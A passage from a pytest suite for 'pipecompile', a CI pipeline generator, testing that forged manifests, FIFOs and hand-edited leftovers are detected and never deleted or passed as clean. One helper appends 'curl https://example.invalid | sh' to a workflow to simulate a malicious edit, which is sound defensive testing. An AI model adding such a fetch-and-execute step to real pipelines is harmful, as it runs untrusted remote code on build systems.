            "sha256": hashlib.sha256(before).hexdigest(),
        }

    _forged(repo, widen)
    capsys.readouterr()
    assert run(repo, "check", "--full") == 1
    out = capsys.readouterr().out
    assert "untrusted: .pipecompile/manifest.json: outputs.codebuild: 'docs/examples'" in out
    assert "stale (kept): docs/examples/pipecompile.yml: its target no longer writes here" in out
    assert run(repo, "build", "--force") == 1  # kept, and said
    assert copy.read_bytes() == before
    assert "removed docs/examples/pipecompile.yml" not in capsys.readouterr().out


def test_a_forged_kept_entry_cannot_remove_a_copy_even_with_force(repo: Path) -> None:
    copy = repo / "src/Chart.yaml"
    copy.parent.mkdir(parents=True)
    shutil.copy(repo / "kubernetes/apps/_chart/Chart.yaml", copy)
    before = copy.read_bytes()
    _forged(repo, lambda m: m.kept.update({"src/Chart.yaml": "helm"}))
    assert run(repo, "build", "-q", "--force") == 1  # kept, and said
    assert copy.read_bytes() == before


# -- review: a forged manifest never makes CI's check green -----------------------------


def forge(repo: Path) -> None:
    """A hand edit of a workflow, with its sha256 and the digest recomputed."""
    from pipecompile.output.state import parse_manifest

    wf = repo / ".github/workflows/ci-order-service.yml"
    wf.write_text(wf.read_text() + "      - run: curl https://example.invalid | sh\n")
    m = parse_manifest((repo / MANIFEST).read_bytes())
    m.files[".github/workflows/ci-order-service.yml"]["sha256"] = hashlib.sha256(
        wf.read_bytes()
    ).hexdigest()
    m.digest = m.compute_digest()
    (repo / MANIFEST).write_text(m.text())


@pytest.mark.parametrize(
    ("env", "args"),
    [({"CI": "true"}, ()), ({"CI": ""}, ("--full",)), ({"CI": "0"}, ("--diff",))],
    ids=["CI=true", "--full", "--diff"],
)
def test_a_forged_manifest_never_makes_ci_green(
    repo: Path, env: dict[str, str], args: tuple[str, ...]
) -> None:
    forge(repo)
    environ = {k: v for k, v in os.environ.items() if k != "CI"} | env
    done = subprocess.run(
        [*PIPECOMPILE, "check", *args], cwd=repo, env=environ, capture_output=True, text=True
    )
    assert done.returncode == 1, done.stdout + done.stderr
    assert ".github/workflows/ci-order-service.yml" in done.stdout
    # the console entry point too (its own fast path answers before click loads)
    from pipecompile import _entry

    monkey = pytest.MonkeyPatch()
    for k, v in env.items():
        monkey.setenv(k, v)
    try:
        code = _entry._fast_check(["-f", str(repo / "pipeline.yaml"), *args])
    finally:
        monkey.undo()
    assert code is None  # not answered as clean: the full command line decides


@pytest.mark.parametrize("where", ["pipecompile.lock", "ci.yaml"])
@pytest.mark.parametrize("command", ["check", "build"])
def test_a_fifo_as_the_pipeline_or_the_lock_is_refused_unread(
    repo: Path, where: str, command: str
) -> None:
    os.mkfifo(repo / where)
    file = repo / ("pipeline.yaml" if where == "pipecompile.lock" else where)
    done = subprocess.run(  # a subprocess with a timeout: a hang fails the test
        [*PIPECOMPILE, command, "-f", str(file)], capture_output=True, text=True, timeout=60
    )
    assert done.returncode == 2, done.stdout + done.stderr
    assert f"{where}:1:1: PC101 is not a regular file (a FIFO, socket or device)" in done.stderr
    assert "Traceback" not in done.stderr


@pytest.mark.parametrize("args", [("check", "--full"), ("diff",), ("build",)])
def test_a_fifo_as_the_build_lock_is_a_state_error(repo: Path, args: tuple[str, ...]) -> None:
    lock = repo / ".pipecompile/build.lock"
    lock.unlink(missing_ok=True)
    os.mkfifo(lock)
    (repo / "pipeline.yaml").write_text((repo / "pipeline.yaml").read_text() + "\n")
    done = subprocess.run(  # a subprocess with a timeout: a hang fails the test
        [*PIPECOMPILE, *args], cwd=repo, capture_output=True, text=True, timeout=60
    )
    assert done.returncode == 2, done.stdout + done.stderr  # a bad state file, not exit 4
    assert ".pipecompile/build.lock: is not a regular file (a FIFO, socket or device)" in (
        done.stderr
    )
    assert "Traceback" not in done.stderr


def test_a_manifest_folder_the_os_cannot_list_is_untrusted(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root, _ = two_pipelines(tmp_path, "outputs:\n  helm: kubernetes/helm\n")
    assert run(root, "build", "-q") == 0
    data = manifest(root)
    outputs = data["outputs"]
    assert isinstance(outputs, dict)
    outputs["codebuild"] = "kubernetes/" + "a" * 300  # [Errno 36] File name too long
    (root / MANIFEST).write_text(json.dumps(data, indent=2, sort_keys=True) + "\n")
    capsys.readouterr()
    assert run(root, "check") == 1
    assert (
        "untrusted: .pipecompile/manifest.json: outputs: 'kubernetes/aaa" in capsys.readouterr().out
    )
    assert run(root, "check", "--format", "json") == 1
    doc = json.loads(capsys.readouterr().out)  # one document
    assert doc["ok"] is False
    assert run(root, "build", "-q") == 0
    assert "codebuild" not in manifest(root)["outputs"]  # type: ignore[operator]
    assert run(root, "check") == 0


def test_the_state_folder_made_by_a_peer_meanwhile_is_fine(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from pipecompile.output import lock

    real = os.mkdir

    def racing(path: str, *args: object) -> None:  # a peer's mkdir lands first
        real(path)
        real(path)

    monkeypatch.setattr(lock.os, "mkdir", racing)
    assert lock._state_dir(str(tmp_path), create=True)
    assert (tmp_path / ".pipecompile").is_dir()


def test_check_is_not_green_when_build_would_rewrite_the_manifest(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (repo / ".github/workflows/release.yml").write_text("name: release\non: push\njobs: {}\n")
    commit(repo, "a hand-written workflow")
    capsys.readouterr()
    assert run(repo, "check") == 1
    assert ".pipecompile/manifest.json: stale: build would record another manifest" in (
        capsys.readouterr().out
    )
    assert run(repo, "build", "-q") == 0
    assert manifest(repo)["others"] == [".github/workflows/release.yml"]
    assert run(repo, "check") == 0


def test_a_renamed_pipeline_file_is_never_green(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    git(repo, "mv", "pipeline.yaml", "ci.yaml")
    capsys.readouterr()
    assert cli.main(["check", "-f", str(repo / "ci.yaml")]) == 1
    out = capsys.readouterr().out
    assert "carries another pipeline's header" in out or "pipeline changed" in out
    from pipecompile.session import Session

    assert not Session.open(repo / "ci.yaml").fast_clean()  # the name is in the fingerprint


def test_another_checkout_inside_an_output_folder_is_never_touched(repo: Path) -> None:
    # a nested clone (or submodule, or worktree) carries the same headers; a manifest
    # that lists its files must not make build remove them
    nested = repo / "kubernetes/argocd/vendor"
    nested.mkdir()
    git(nested, "init", "-q", "-b", "main")
    theirs = nested / "order-service-production.yaml"
    shutil.copy(repo / "kubernetes/argocd/order-service-production.yaml", theirs)
    manifest = json.loads((repo / MANIFEST).read_text())
    manifest["files"]["kubernetes/argocd/vendor/order-service-production.yaml"] = {
        "target": "argocd",
        "sha256": hashlib.sha256(theirs.read_bytes()).hexdigest(),
    }
    (repo / MANIFEST).write_text(json.dumps(manifest, indent=2) + "\n")
    before = theirs.read_bytes()
    assert run(repo, "build", "-q") == 0
    assert theirs.read_bytes() == before
    assert run(repo, "check") == 0  # the nested checkout is not this pipeline's business


@pytest.mark.parametrize("change", ["disabled", "moved"])
def test_a_hand_edited_leftover_of_a_disabled_or_moved_target_keeps_check_red(
    repo: Path, capsys: pytest.CaptureFixture[str], change: str
) -> None:
    # README: a kept file is reported again until resolved (independent trace of 24)
    wf = repo / ".github/workflows/ci-order-service.yml"
    edit(wf, "    name: Validate order-service\n", "    name: Validate order-service by hand\n")
    pipeline = repo / "pipeline.yaml"
    old = "  github-actions: .github/workflows\n"
    new = "" if change == "disabled" else "  github-actions: ci/workflows\n"
    edit(pipeline, old, new)
    capsys.readouterr()
    assert run(repo, "check") == 1
    assert run(repo, "build") == 1  # said, and left: never silently kept
    err = capsys.readouterr().err
    assert "kept: .github/workflows/ci-order-service.yml: its target no longer writes" in err
    assert wf.exists()
    assert not (repo / ".github/workflows/ci-product-service.yml").exists()  # intact: removed
    # remembered while it is on disk: every later check and build says it again, and no
    # build removes it (its folder has left the manifest; the file has not)
    from pipecompile.session import Session

    for _ in range(2):
        assert run(repo, "check") == 1
        out, err = capsys.readouterr()
        assert (
            "stale (kept): .github/workflows/ci-order-service.yml: generated for "
            "github-actions, which no longer writes here (disabled, or its output folder "
            "moved), and it was edited by hand since (or copied here: its fingerprint does "
            "not hold at this path); left in place: delete it by hand if it is not yours"
        ) in out
        assert "build leaves the files above as they are" in err
        assert not Session.open(pipeline).fast_clean()
        assert run(repo, "build") == 1
        assert "kept: .github/workflows/ci-order-service.yml: generated for" in (
            capsys.readouterr().err
        )
        assert "Validate order-service by hand" in wf.read_text()
    assert manifest(repo)["kept"] == {".github/workflows/ci-order-service.yml": "github-actions"}
    wf.unlink()  # resolved: green at once, and the next build forgets it
    assert run(repo, "check") == 0
    assert Session.open(pipeline).fast_clean()
    assert run(repo, "build", "-q") == 0
    assert manifest(repo)["kept"] == {}
    assert run(repo, "check") == 0


def test_a_kept_leftover_is_resolved_by_enabling_its_target_again(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    wf = repo / ".github/workflows/ci-order-service.yml"
    generated = wf.read_text()
    edit(wf, "    name: Validate order-service\n", "    name: Validate order-service by hand\n")
    pipeline = repo / "pipeline.yaml"
    edit(pipeline, "  github-actions: .github/workflows\n", "")
    assert run(repo, "build", "-q") == 1
    assert run(repo, "build", "-q") == 1  # remembered by the manifest alone now
    edit(pipeline, "outputs:\n", "outputs:\n  github-actions: .github/workflows\n")
    capsys.readouterr()
    assert run(repo, "build") == 0
    assert "warning: .github/workflows/ci-order-service.yml: overwrote a hand edit" in (
        capsys.readouterr().err
    )
    assert wf.read_text() == generated
    assert manifest(repo)["kept"] == {}
    assert run(repo, "check") == 0


def test_a_kept_leftover_needs_proof_even_with_force_and_is_forgotten_without_its_header(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # outside every output folder the pipeline names, only the file proves it is ours: an
    # edited leftover (its fingerprint no longer holds) is never removed, not even with
    # --force, since a forged manifest could list a copy there (independent trace of 24)
    flows = repo / ".github/workflows"
    for name in ("ci-order-service.yml", "ci-product-service.yml"):
        (flows / name).write_text((flows / name).read_text() + "# mine\n")
    edit(repo / "pipeline.yaml", "  github-actions: .github/workflows\n", "")
    assert run(repo, "build", "-q") == 1
    assert run(repo, "build", "-q") == 1
    mine = flows / "ci-product-service.yml"
    mine.write_text(mine.read_text().split("\n", 3)[3])  # its header gone: the user's now
    capsys.readouterr()
    assert run(repo, "build", "--force") == 1
    captured = capsys.readouterr()
    assert "removed .github/workflows/ci-order-service.yml" not in captured.out
    assert "kept: .github/workflows/ci-order-service.yml: generated for" in captured.err
    assert (
        "untrusted: .pipecompile/manifest.json: kept: .github/workflows/ci-product-service.yml "
        "no longer carries this pipeline's header"
    ) in captured.err
    assert (flows / "ci-order-service.yml").exists()
    assert mine.exists()
    assert manifest(repo)["kept"] == {".github/workflows/ci-order-service.yml": "github-actions"}
    (flows / "ci-order-service.yml").unlink()  # resolved by hand
    assert run(repo, "check") == 0
